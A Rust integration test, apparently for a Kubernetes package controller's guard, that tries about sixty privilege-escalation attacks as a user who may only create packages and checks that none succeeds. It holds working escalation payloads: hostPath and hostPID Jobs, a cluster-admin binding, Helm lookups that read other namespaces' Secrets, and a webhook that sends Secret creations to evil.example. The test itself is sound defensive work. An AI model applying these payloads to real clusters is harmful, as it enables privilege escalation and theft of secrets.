//! Privilege escalation: a user who may only create packages tries to make the controller do more. The controller has all
//! permissions here, so that only its own guard prevents the attacks.

use std::process::Stdio;
use std::time::Duration;

use serde_json::{Value, json};

use super::{Shard, Site, site};

const WORD: &str = "s3cr3t-of-others";
const EVIL: &str = "evil.example/disk.example/team/app:v1";
const GOOD: &str = "disk.example/team/app:v1";

/// A package that an attacker creates.
struct Attack {
    name: String,
    target: String,
    annotations: Value,
    config: Value,
}

#[test]
fn a2_sixty_attacks_by_a_user_who_may_only_create_packages_have_no_effect() {
    let Some(site) = site() else { return };
    let shard = Shard::new(&site, "esc", "v1-36-2");
    victims(&site, &shard);
    let _controller = shard.start();
    let attacks: Vec<_> = objects().chain(targets()).chain(lookups()).chain(annotations()).collect();
    assert!(attacks.len() >= 60, "{} attacks", attacks.len());
    for attack in &attacks {
        create(&site, &shard, attack);
    }
    // A package without an attack is installed, so the others are not refused for another reason.
    let fair = Attack { name: "fair".to_owned(), target: "at-fair".to_owned(), ..plain("fair") };
    create(&site, &shard, &fair);
    shard.installed("fair", "2.0.0");
    let mut refused = 0;
    for attack in &attacks {
        let package = shard.until(&attack.name, Duration::from_mins(3), |package| {
            package["status"]["state"] == "installed" || package["status"]["detail"].is_string()
        });
        let text = package.to_string();
        assert!(!text.contains(WORD), "{}: {text}", attack.name);
        if package["status"]["state"] != "installed" {
            refused += 1;
        }
    }
    no_attack_had_an_effect(&site);
    println!("{} attacks, {refused} refused, none had an effect", attacks.len());
    // Only the lookups are installed, without the objects that they look for.
    assert_eq!(attacks.len() - refused, lookups().count());
}

/// Creates the objects to protect, and the user who may create packages.
fn victims(site: &Site, shard: &Shard) {
    let namespace = shard.namespace();
    let mut all = vec![
        json!({
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
            "metadata": { "name": "author", "namespace": namespace },
            "rules": [{ "apiGroups": ["packages.eks.amazonaws.com"], "resources": ["packages"], "verbs": ["create"] }],
        }),
        json!({
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
            "metadata": { "name": "author", "namespace": namespace },
            "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "author" },
            "subjects": [{ "kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "author" }],
        }),
    ];
    for name in ["esc-other".to_owned()].into_iter().chain(lookups().map(|attack| attack.target)) {
        all.push(json!({ "apiVersion": "v1", "kind": "Namespace", "metadata": { "name": name } }));
        all.extend(["Secret", "ConfigMap"].map(|kind| victim(kind, &name)));
    }
    all.extend(["kube-system", "eksa-packages"].map(|namespace| victim("Secret", namespace)));
    let all: Vec<_> = all.iter().map(Value::to_string).collect();
    site.apply(&all.join("\n---\n"));
}

fn victim(kind: &str, namespace: &str) -> Value {
    let data = if kind == "Secret" { "stringData" } else { "data" };
    json!({ "apiVersion": "v1", "kind": kind, "metadata": { "name": "victim", "namespace": namespace }, data: { "word": WORD } })
}

/// Objects that a chart renders from its values, in every way in which a chart can contain objects.
fn objects() -> impl Iterator<Item = Attack> {
    payloads().into_iter().enumerate().flat_map(|(number, object)| {
        carriers(&object).into_iter().enumerate().map(move |(way, objects)| {
            let name = format!("esc-{number}-{way}");
            Attack { config: json!({ "objects": objects }), ..plain(&name) }
        })
    })
}

/// Objects that a user who may only create packages must not be able to create.
fn payloads() -> Vec<Value> {
    let job = |spec: Value| json!({ "apiVersion": "batch/v1", "kind": "Job", "metadata": { "name": "x" }, "spec": { "template": { "spec": spec } } });
    let pod =
        |image: &str| json!({ "restartPolicy": "Never", "containers": [{ "name": "c", "image": image }] });
    let with = |more: Value| {
        let mut spec = pod(GOOD);
        spec.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        spec
    };
    let mut elsewhere = job(pod(GOOD));
    elsewhere["metadata"]["namespace"] = json!("kube-system");
    let mut other = victim("ConfigMap", "esc-other");
    (other["metadata"]["name"], other["data"]["word"]) = (json!("x"), json!("x"));
    vec![
        job(pod(EVIL)),
        job(with(json!({ "initContainers": [{ "name": "i", "image": EVIL }] }))),
        job(with(json!({ "volumes": [{ "name": "v", "image": { "reference": EVIL } }] }))),
        job(with(json!({ "hostPID": true }))),
        job(with(json!({ "volumes": [{ "name": "v", "hostPath": { "path": "/" } }] }))),
        job(with(json!({ "serviceAccountName": "somebody-elses" }))),
        elsewhere,
        other,
        json!({ "apiVersion": "v1", "kind": "Namespace", "metadata": { "name": "kube-system" } }),
        json!({
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": { "name": "esc-x" },
            "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin" },
            "subjects": [{ "kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "author" }],
        }),
        json!({
            "apiVersion": "packages.eks.amazonaws.com/v1alpha1", "kind": "PackageBundleController",
            "metadata": { "name": "esc", "namespace": "eksa-packages", "annotations": { "airlock.dev/allow": "*:host" } },
        }),
        json!({
            "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
            "metadata": { "name": "esc-x" }, "webhooks": [{
                "name": "x.evil.example", "clientConfig": { "url": "https://evil.example" }, "sideEffects": "None",
                "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore",
                "rules": [{ "apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["secrets"] }],
            }],
        }),
    ]
}

/// Every way in which a chart can contain an object. The label identifies objects that were created.
fn carriers(object: &Value) -> Vec<Value> {
    let mut object = object.clone();
    object["metadata"]["labels"] = json!({ "attack": "yes" });
    let list = |kind: &str, inner: &Value| json!({ "apiVersion": "v1", "kind": kind, "items": [inner] });
    let hook = |event: &str| {
        let mut hook = object.clone();
        hook["metadata"]["annotations"]["helm.sh/hook"] = json!(event);
        hook
    };
    let listed = list("List", &object);
    vec![
        json!([object]),
        json!([listed]),
        json!([list("List", &listed)]),
        json!([list("Harmless", &object)]),
        json!([hook("pre-install")]),
        json!([hook("post-install,post-upgrade")]),
    ]
}

fn targets() -> impl Iterator<Item = Attack> {
    [
        "kube-system",
        "kube-public",
        "kube-node-lease",
        "eksa-packages",
        "eksa-packages-esc",
        "eksa-system",
        "airlock-esc",
    ]
    .into_iter()
    .enumerate()
    .map(|(number, target)| Attack { target: target.to_owned(), ..plain(&format!("esc-to-{number}")) })
}

/// Values that a chart evaluates as templates.
fn lookups() -> impl Iterator<Item = Attack> {
    [
        r#"{{ lookup "v1" "Secret" "eksa-packages" "victim" | toJson }}"#,
        r#"{{ lookup "v1" "Secret" "kube-system" "victim" | toJson }}"#,
        r#"{{ lookup "v1" "Secret" "" "" | toJson }}"#,
        r#"{{ lookup "v1" "Secret" "esc-other" "" | toJson }}"#,
        r#"{{ lookup "v1" "Secret" .Release.Namespace "victim" | toJson }}"#,
        r#"{{ lookup "v1" "Secret" .Release.Namespace "" | toJson }}"#,
        r#"{{ lookup "v1" "ConfigMap" .Release.Namespace "victim" | toJson }}"#,
        r#"{{ range (lookup "v1" "ConfigMap" "esc-other" "").items }}{{ .data | toJson }}{{ end }}"#,
    ]
    .into_iter()
    .enumerate()
    .map(|(number, text)| Attack { config: json!({ "text": text }), ..plain(&format!("esc-look-{number}")) })
}

/// Annotations with a meaning for the controller, with an image that the bundle does not list.
fn annotations() -> impl Iterator<Item = Attack> {
    [
        json!({ "anywhere.eks.aws.com/internal": "true" }),
        json!({ "airlock.dev/rollback": "1" }),
        json!({ "airlock.dev/drift": "tell" }),
        json!({ "airlock.dev/allow": "*:host" }),
    ]
    .into_iter()
    .enumerate()
    .map(|(number, annotations)| {
        let config = json!({ "objects": carriers(&payloads()[0])[0] });
        Attack { annotations, config, ..plain(&format!("esc-note-{number}")) }
    })
}

fn plain(name: &str) -> Attack {
    Attack { name: name.to_owned(), target: format!("at-{name}"), annotations: json!({}), config: json!({}) }
}

/// Creates a package as the user who may do nothing else.
fn create(site: &Site, shard: &Shard, attack: &Attack) {
    use std::io::Write as _;
    let package = json!({
        "apiVersion": "packages.eks.amazonaws.com/v1alpha1", "kind": "Package",
        "metadata": { "name": attack.name, "namespace": shard.namespace(), "annotations": attack.annotations },
        "spec": {
            "packageName": "open", "packageVersion": "2.0.0", "targetNamespace": attack.target,
            "config": attack.config.to_string(),
        },
    });
    let mut command = site.kubectl_command();
    command.args(["create", "--as", "author", "--validate=false", "-f", "-"]);
    let mut child =
        command.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(package.to_string().as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{}: {}", attack.name, String::from_utf8_lossy(&output.stderr));
}

/// Checks that no object of an attack exists, and that no protected data was copied.
fn no_attack_had_an_effect(site: &Site) {
    const KINDS: &str = "pods,jobs,configmaps,secrets,namespaces,clusterrolebindings,validatingwebhookconfigurations,\
                         packagebundlecontrollers";
    let found = site.get(&[KINDS, "-A", "-l", "attack=yes"]).unwrap();
    assert_eq!(found["items"], json!([]));
    for (number, _) in lookups().enumerate() {
        let (name, namespace) = (format!("esc-look-{number}"), format!("at-esc-look-{number}"));
        let copied = site.get(&["configmap", &format!("{name}-text"), "-n", &namespace]).unwrap();
        assert!(!copied.to_string().contains(WORD), "{copied}");
        assert!(!copied.to_string().contains("czNjcjN0"), "{copied}");
    }
}
